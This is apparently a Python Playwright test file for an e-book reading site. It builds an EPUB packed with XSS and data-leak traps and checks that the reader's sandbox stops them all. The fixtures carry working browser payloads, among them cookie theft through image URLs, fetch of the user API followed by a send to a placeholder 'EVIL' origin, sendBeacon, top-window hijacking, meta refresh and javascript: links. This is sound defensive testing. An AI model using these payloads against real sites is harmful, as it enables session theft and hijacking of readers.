"""A book full of traps, opened in the reading page and directly: nothing springs."""

from pathlib import Path

import pytest
from house import House
from pages.books import epub
from pages.books import page as chapter
from playwright.sync_api import BrowserContext, Page, expect

from .conftest import Attacker, Witness

pytestmark = pytest.mark.browser
SHOWN = "iframe:not(.waiting)"
DANGEROUS = "form, button, iframe, object, embed, script, base, meta[http-equiv=refresh], animate"

CHEESE = """<![CDATA[
try { document.title = 'sprung' } catch (e) {}
try { document.documentElement.setAttribute('data-sprung', '1') } catch (e) {}
try { document.cookie = 'sprung=1' } catch (e) {}
try { parent.document.cookie = 'sprung=1'; top.localStorage.sprung = '1' } catch (e) {}
try { localStorage.sprung = '1' } catch (e) {}
try { fetch('/api/v1/me?trap').then(r => r.text()).then(t => fetch('EVIL/stolen')) } catch (e) {}
try { new Image().src = 'EVIL/script?' + document.cookie } catch (e) {}
try { navigator.sendBeacon('EVIL/beacon', '1') } catch (e) {}
try { window.open('EVIL/popup') } catch (e) {}
try { top.location = 'EVIL/top' } catch (e) {}
]]>"""

HEAD = """
<base href="EVIL/base/"/>
<meta http-equiv="refresh" content="0;url=EVIL/refresh"/>
<link rel="stylesheet" href="EVIL/style.css"/>
<link rel="stylesheet" href="trap.css"/>
<link rel="preload" as="image" href="EVIL/preload"/><link rel="prefetch" href="EVIL/prefetch"/>
<link rel="dns-prefetch" href="EVIL"/><link rel="preconnect" href="EVIL"/>
<link rel="icon" href="EVIL/icon"/><link rel="modulepreload" href="EVIL/module"/>
<script>CHEESE</script><script src="EVIL/script.js"></script><script src="trap.js"></script>
<style>@import url(EVIL/import); body { background: url(EVIL/background) }
@font-face { font-family: x; src: url(EVIL/font) }
h1 { font-family: x; cursor: url(EVIL/c), auto }</style>
"""

BODY = """
<h1 onclick="CLICK" onmouseover="CLICK">陷阱</h1>
<img src="nowhere" onerror="CLICK" alt=""/><img src="EVIL/img" srcset="EVIL/srcset 1x" alt=""/>
<img src="/api/v1/me?trap=img" alt=""/><img src="../../../../api/v1/me?trap=dots" alt=""/>
<p style="background: url(EVIL/attribute)">样式</p>
<a id="top" href="EVIL/link-top" target="_top">顶层</a>
<a id="js" href="javascript:CLICK">脚本</a>
<a id="data" href="data:text/html,&lt;script&gt;top.location='EVIL/data'&lt;/script&gt;">数据</a>
<a id="ping" href="two.xhtml" ping="EVIL/ping">计数</a>
<form id="form" action="EVIL/form" method="post" target="_top">
<input name="x" value="1" autofocus="" onfocus="CLICK"/>
<button>提交</button></form>
<iframe src="EVIL/frame"></iframe><iframe srcdoc="&lt;script&gt;CLICK&lt;/script&gt;"></iframe>
<iframe src="/api/v1/me?trap=frame"></iframe>
<object data="EVIL/object" type="text/html"></object><embed src="EVIL/embed"/>
<video src="EVIL/video" poster="EVIL/poster" autoplay=""></video>
<audio src="EVIL/audio" autoplay=""></audio>
<svg xmlns="http://www.w3.org/2000/svg" width="90" height="20" onload="CLICK">
<script>CHEESE</script>
<image href="EVIL/svg-image" width="9" height="9"/><use xlink:href="EVIL/use#x"/>
<use href="trap.svg#x"/>
<foreignObject><iframe xmlns="http://www.w3.org/1999/xhtml" src="EVIL/foreign"/></foreignObject>
<a id="svg" xlink:href="javascript:CLICK"><text y="15">图中</text></a>
<a id="animated"><animate attributeName="href" values="javascript:CLICK"/>
<text x="50" y="15">动</text></a></svg>
<img src="trap.svg" alt=""/>
"""

ASKS = '<img src="/api/v1/me" alt=""/><img src="../../../../../api/v1/me" alt=""/><p>完</p>'

CLICK = "top.location='EVIL/handler';document.title='sprung';localStorage.sprung='1'"
SVG = (
    '<svg xmlns="http://www.w3.org/2000/svg" onload="CLICK"><script>CHEESE</script>'
    '<image href="EVIL/inside" width="9" height="9"/><g id="x"><text>图</text></g></svg>'
)
CSS = (
    "@import url(EVIL/sheet-import); p { background: url(EVIL/sheet-background) }"
    "h1 { color: rgb(1, 2, 3) }"
)


def armed(text: str, attacker: Attacker) -> str:
    """The traps, pointing at the attacker."""
    text = text.replace("CHEESE", CHEESE).replace("CLICK", CLICK)
    return text.replace("EVIL", attacker.origin)


@pytest.fixture
def trap(house: House, attacker: Attacker, tmp_path: Path) -> str:
    first = chapter(armed(BODY, attacker), armed(HEAD, attacker))
    other = {"trap.css": armed(CSS, attacker), "trap.svg": armed(SVG, attacker)}
    chapters = {
        "one.xhtml": first,
        "drawing.svg": armed(SVG, attacker),
        "two.xhtml": chapter("<p>完</p>"),
    }
    return house.book(epub(tmp_path / "trap.epub", chapters, other=other, title="陷阱"))


class Scene:
    """Everything that a sprung trap would show in."""

    def __init__(
        self, page: Page, context: BrowserContext, attacker: Attacker, witness: Witness
    ) -> None:
        self.page, self.context, self.attacker, self.witness = page, context, attacker, witness
        self.url = ""

    def open(self, url: str, *, signed_in: bool = False) -> None:
        """Opens an address, with a session's cookie where it says so."""
        if signed_in:
            cookie = {"name": "kaijuan", "value": "secret", "url": url, "sameSite": "Lax"}
            self.context.add_cookies([cookie])  # type: ignore[list-item]  # a TypedDict
        self.url = url
        self.page.goto(url)

    def is_quiet(self) -> bool:
        """Nobody else was reached, nobody moved, nothing was left behind, no cookie was used."""
        self.page.wait_for_timeout(500)
        api = [(path, cookie) for path, cookie in self.witness.seen if path == "/api/v1/me"]
        assert self.attacker.seen == []
        assert [cookie for _, cookie in api if cookie] == []
        assert (len(self.context.pages), self.page.url) == (1, self.url)
        assert [c["name"] for c in self.context.cookies() if c["name"] != "kaijuan"] == []
        assert "sprung" not in self.page.title()
        return True

    @property
    def api_asked(self) -> bool:
        """Whether the book made the browser ask our API for anything of the reader's."""
        return any(path == "/api/v1/me" for path, _ in self.witness.seen)


@pytest.fixture
def scene(page: Page, context: BrowserContext, attacker: Attacker, witness: Witness) -> Scene:
    """A browser, somebody who waits outside, and the library's own eyes."""
    return Scene(page, context, attacker, witness)


def test_in_the_reading_page_nothing_springs(
    page: Page, origin: str, trap: str, scene: Scene
) -> None:
    scene.open(f"{origin}/read/{trap}", signed_in=True)
    heading = page.frame_locator(SHOWN).locator("h1")
    expect(heading).to_have_text("陷阱")
    expect(heading).to_have_css("color", "rgb(1, 2, 3)")
    assert scene.is_quiet()
    assert not scene.api_asked
    assert (
        page.evaluate("Object.keys(localStorage).filter(key => !key.startsWith('kaijuan:'))") == []
    )


def test_touching_a_trap_in_the_reading_page_springs_nothing(
    page: Page, origin: str, trap: str, scene: Scene
) -> None:
    scene.open(f"{origin}/read/{trap}", signed_in=True)
    text = page.frame_locator(SHOWN)
    for words in ("陷阱", "样式", "脚本", "数据", "图中", "动"):
        text.get_by_text(words, exact=True).first.click()
    expect(text.locator(DANGEROUS)).to_have_count(0)
    assert scene.is_quiet()
    assert not scene.api_asked


def test_a_link_to_another_site_asks_first(
    page: Page, origin: str, trap: str, attacker: Attacker, scene: Scene
) -> None:
    scene.open(f"{origin}/read/{trap}")
    page.frame_locator(SHOWN).get_by_text("顶层").click()
    expect(page.get_by_role("dialog")).to_contain_text(f"{attacker.origin}/link-top")
    assert scene.is_quiet()


def test_a_drawing_in_the_reading_order_springs_nothing(
    page: Page, origin: str, trap: str, scene: Scene
) -> None:
    scene.open(f"{origin}/read/{trap}")
    page.get_by_role("button", name="下一章").click()
    expect(page.frame_locator(SHOWN).locator("svg g")).to_have_text("图")
    assert scene.is_quiet()


def test_a_picture_cannot_be_made_to_ask_our_api(
    page: Page, origin: str, trap: str, scene: Scene
) -> None:
    scene.open(f"{origin}/read/{trap}", signed_in=True)
    page.get_by_role("button", name="目录").click()
    page.get_by_role("button", name="two", exact=True).click()
    expect(page.frame_locator(SHOWN).get_by_text("完")).to_be_visible()
    assert scene.is_quiet()
    assert not scene.api_asked


@pytest.mark.parametrize("name", ["one.xhtml", "two.xhtml", "drawing.svg", "trap.svg"])
def test_opened_directly_nothing_springs(
    page: Page, origin: str, house: House, trap: str, scene: Scene, name: str
) -> None:
    manifest = house.client.get(f"/api/v1/books/{trap}/manifest").get_json()
    root = manifest["readingOrder"][0]["href"].rsplit("/", 1)[0]
    scene.open(f"{origin}{root}/{name}", signed_in=True)
    assert page.evaluate("self.origin") == "null"
    assert page.evaluate("document.documentElement.dataset.sprung ?? ''") == ""
    assert scene.is_quiet()


def test_touching_a_trap_opened_directly_reaches_nobody_in_secret(
    page: Page, origin: str, house: House, trap: str, scene: Scene
) -> None:
    manifest = house.client.get(f"/api/v1/books/{trap}/manifest").get_json()
    scene.open(origin + manifest["readingOrder"][0]["href"], signed_in=True)
    for words in ("陷阱", "脚本", "提交"):
        page.get_by_text(words, exact=True).first.click(no_wait_after=True)
    assert scene.is_quiet()
